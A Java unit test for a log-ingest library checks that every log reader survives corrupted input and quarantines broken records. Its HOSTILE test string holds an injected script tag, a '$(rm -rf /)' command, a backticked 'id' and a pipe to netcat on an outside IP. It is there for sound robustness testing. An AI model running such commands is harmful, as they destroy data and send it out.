package io.stagehunt.ingest;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Feeds every registered reader its own valid sample, corrupted in the ways real logs break and attackers
 * try: no exception may escape, every record must be accounted for, and the clearly broken records must be
 * quarantined at their line. A format without a sample fails here, so none goes untested.
 */
class EveryReaderSurvivesCorruptionTest {

    private static final String HOSTILE = "<script>alert(1)</script>\";$(rm -rf /);`id`|nc 1.2.3.4 9\u0007\u001b[31m";

    static Stream<LogFormat> formats() {
        return StandardFormats.registry().formats().stream();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("formats")
    void sampleIsRecognizedAndReadCleanly(LogFormat format) {
        byte[] sample = sample(format);
        Head head = new Head(sample, sample.length, true);
        assertThat(StandardFormats.registry().recognize(head)).as("recognized format")
                .extracting(LogFormat::id).isEqualTo(format.id());
        ReaderFixture read = ReaderFixture.read(format, sample);
        assertThat(read.events()).as("events from the clean sample").isNotEmpty();
        assertThat(read.account().quarantined()).as("quarantined in the clean sample").isZero();
        assertThat(read.account().balanced()).isTrue();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("formats")
    void quarantinesBrokenRecordsAtTheirLineAndNeverThrows(LogFormat format) {
        List<byte[]> lines = splitLines(sample(format));
        int body = lines.size() / 2;
        byte[] record = lines.get(body);
        List<byte[]> corrupted = new ArrayList<>(lines.subList(0, body));
        Random random = new Random(1104);

        long junkLine = corrupted.size() + 1;
        byte[] junk = new byte[300];
        random.nextBytes(junk);
        corrupted.add(withoutNewlines(junk));
        long hugeLine = corrupted.size() + 1;
        byte[] huge = new byte[10 * 1024 * 1024];
        Arrays.fill(huge, (byte) 'A');
        corrupted.add(huge);
        corrupted.add(Arrays.copyOf(record, record.length / 2));
        corrupted.add(replaceDigits(record));
        corrupted.add(withInvalidUtf8(record));
        corrupted.add(withHostileText(record));
        corrupted.add(new byte[] {0, 0, 0});
        corrupted.addAll(lines.subList(body, lines.size()));
        byte[] last = lines.get(lines.size() - 1);
        corrupted.add(Arrays.copyOf(last, Math.max(1, last.length / 3)));

        ReaderFixture[] holder = new ReaderFixture[1];
        assertThatCode(() -> holder[0] = ReaderFixture.read(format, join(corrupted))).doesNotThrowAnyException();
        FileAccount account = holder[0].account();
        assertThat(account.read()).as("records read").isEqualTo(corrupted.size());
        assertThat(account.balanced()).as("read == produced + skipped + quarantined").isTrue();
        assertThat(account.samples()).extracting(FileAccount.QuarantineEntry::line).contains(junkLine, hugeLine);
        assertThat(account.samples()).allSatisfy(sample -> assertThat(sample.excerpt())
                .doesNotContain("\u0007", "\u001b", "\u0000"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("formats")
    void emptyAndHeaderOnlyInputsGiveNoEvents(LogFormat format) {
        ReaderFixture empty = ReaderFixture.read(format, new byte[0]);
        assertThat(empty.events()).isEmpty();
        assertThat(empty.account().read()).isZero();

        List<byte[]> lines = splitLines(sample(format));
        ReaderFixture firstLineOnly = ReaderFixture.read(format, join(lines.subList(0, 1)));
        assertThat(firstLineOnly.account().balanced()).isTrue();
    }

    private static byte[] sample(LogFormat format) {
        String name = "samples/" + format.id() + ".sample";
        try (InputStream in = EveryReaderSurvivesCorruptionTest.class.getResourceAsStream(name)) {
            assertThat(in).as("a test sample %s for format %s", name, format.id()).isNotNull();
            return in.readAllBytes();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static List<byte[]> splitLines(byte[] bytes) {
        List<byte[]> lines = new ArrayList<>();
        int start = 0;
        for (int i = 0; i < bytes.length; i++) {
            if (bytes[i] == '\n') {
                lines.add(Arrays.copyOfRange(bytes, start, i));
                start = i + 1;
            }
        }
        if (start < bytes.length) {
            lines.add(Arrays.copyOfRange(bytes, start, bytes.length));
        }
        return lines;
    }

    private static byte[] join(List<byte[]> lines) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (int i = 0; i < lines.size(); i++) {
            out.writeBytes(lines.get(i));
            if (i < lines.size() - 1) {
                out.write('\n');
            }
        }
        return out.toByteArray();
    }

    private static byte[] withoutNewlines(byte[] bytes) {
        byte[] copy = bytes.clone();
        for (int i = 0; i < copy.length; i++) {
            if (copy[i] == '\n' || copy[i] == '\r') {
                copy[i] = 0x01;
            }
        }
        copy[0] = (byte) 0xFE;
        return copy;
    }

    private static byte[] replaceDigits(byte[] record) {
        byte[] copy = record.clone();
        for (int i = 0; i < copy.length; i++) {
            if (copy[i] >= '0' && copy[i] <= '9') {
                copy[i] = 'x';
            }
        }
        return copy;
    }

    private static byte[] withInvalidUtf8(byte[] record) {
        byte[] copy = Arrays.copyOf(record, record.length + 2);
        int middle = record.length / 2;
        System.arraycopy(record, middle, copy, middle + 2, record.length - middle);
        copy[middle] = (byte) 0xC3;
        copy[middle + 1] = (byte) 0x28;
        return copy;
    }

    private static byte[] withHostileText(byte[] record) {
        String text = new String(record, StandardCharsets.UTF_8);
        int middle = text.length() / 2;
        return (text.substring(0, middle) + HOSTILE + text.substring(middle)).getBytes(StandardCharsets.UTF_8);
    }
}
